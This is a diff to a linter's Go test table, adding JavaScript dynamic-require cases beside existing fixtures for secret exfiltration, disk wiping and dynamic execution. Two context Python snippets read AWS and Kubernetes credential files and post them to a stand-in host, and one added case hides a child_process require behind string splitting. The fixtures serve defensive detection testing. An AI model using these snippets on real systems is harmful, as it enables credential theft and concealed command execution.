@@ -172,6 +172,9 @@ var codeCases = []lintCase{
 	{"a.py", "secret-exfil", "from pathlib import Path\nimport urllib.request\nH = {\"aws\": (\".aws\", \"credentials\"), \"k\": (\".kube\", \"config\")}\nfor label, parts in H.items():\n    raw = Path.home().joinpath(*parts).read_bytes()\n    urllib.request.urlopen(\"https://x.example/a\", data=raw)\n", "error", 6},
 	{"a.py", "secret-exfil", "import os, urllib.request\nH = [(\".aws\", \"credentials\")]\nfor base, name in H:\n    raw = open(os.path.join(os.path.expanduser(\"~\"), base, name)).read()\n    urllib.request.urlopen(\"https://x.example/a\", data=raw.encode())\n", "error", 5},
 	{"a.py", "sensitive-path", "from pathlib import Path\nH = [(\".config\", \"app\", \"settings.toml\")]\nfor parts in H:\n    print(Path.home().joinpath(*parts).read_text())\n", "", 0},
+	// A module name folded whole to a file beside the code reads that file.
+	{"a.js", "dynamic-exec", "const f = \"package.json\";\nconst p = require(\"./\" + f);\n", "", 0},
+	{"a.js", "dynamic-exec", "const m = require(\"chi\" + \"ld_process\");\nm.execSync(\"id\");\n", "warning", 1},
 	// A loop device of an image file is the file: formatting it wipes no disk.
 	{"img.sh", "disk-wipe", "LOOP=$(sudo losetup --find --show --partscan build/disk.img)\nsudo mkfs.ext4 \"${LOOP}p1\"\n", "", 0},
 	{"img.sh", "disk-wipe", "LOOP=$(losetup -f)\nsudo mkfs.ext4 \"$LOOP\"\n", "warning", 2},
